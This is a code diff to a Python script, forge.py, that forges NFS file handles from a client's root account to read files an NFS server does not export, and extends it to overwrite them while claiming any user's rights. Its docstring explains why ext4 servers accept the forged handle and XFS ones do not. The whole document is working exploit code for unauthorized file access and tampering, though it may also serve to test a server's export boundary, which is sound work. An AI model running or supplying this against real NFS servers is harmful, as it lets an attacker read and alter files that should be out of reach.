@@ -1,12 +1,20 @@
-"""Read a file of an NFS server that it does not export: `forge.py SERVED INODE UID`.
+"""Read or write a file of an NFS server that it does not export.
+
+    forge.py SERVED INODE UID [TEXT]
 
 Runs as root of a client, which may say any number for a user and make up any file handle. SERVED is
 a file of the server that is mounted here, INODE the number of another one in its file system there,
-UID whose rights to claim. Prints the content, or the error.
+UID whose rights to claim. Writes TEXT to the file's beginning; without TEXT prints its content.
+Prints the error of what is refused.
 
 A handle of the kernel's server ends with inode and generation, 32 bits each (struct knfsd_fh); for
 the generation 0 ext4 takes any (ext4_nfs_get_inode). The kernel's client puts the server's handle
 into its own, after the file's number, its type and a length (nfs_encode_fh).
+
+For ext4 alone, on which Muster puts what it serves. XFS numbers inodes with 64 bits and wants the
+very generation, a random number that the client is not told of files that it does not reach
+(xfs_nfs_get_inode). What keeps a file out of reach is the same for both: its file system is not
+the one that the handle begins with, which the server looks at before the file system does.
 """
 
 import ctypes
@@ -26,8 +34,8 @@ CLIENT = struct.Struct("=III H")
 libc = ctypes.CDLL(None, use_errno=True)
 
 
-def main(served: str, inode: int, uid: int) -> int:
-    """Open the forged handle and read what it leads to."""
+def main(served: str, inode: int, uid: int, text: str | None = None) -> int:
+    """Open the forged handle, and read or write what it leads to; return the exit status."""
     handle = ctypes.create_string_buffer(HEAD.pack(MOST, 0), HEAD.size + MOST)
     place = ctypes.c_int()
     if libc.name_to_handle_at(-100, served.encode(), handle, ctypes.byref(place), 0):
@@ -42,9 +50,19 @@ def main(served: str, inode: int, uid: int) -> int:
         return 1
     os.setresgid(uid, uid, uid)
     os.setresuid(uid, uid, uid)
-    sys.stdout.write(Path(f"/proc/self/fd/{opened}").read_text(encoding="utf-8"))
+    file = Path(f"/proc/self/fd/{opened}")
+    try:
+        if text is None:
+            sys.stdout.write(file.read_text(encoding="utf-8"))
+        else:
+            with file.open("r+", encoding="utf-8") as stream:
+                stream.write(text)
+    except OSError as error:
+        sys.stdout.write(f"{error.strerror}\n")
+        return 1
     return 0
 
 
 if __name__ == "__main__":
-    sys.exit(main(sys.argv[1], int(sys.argv[2]), int(sys.argv[3])))
+    of_server, number, whose, *texts = sys.argv[1:]
+    sys.exit(main(of_server, int(number), int(whose), *texts))
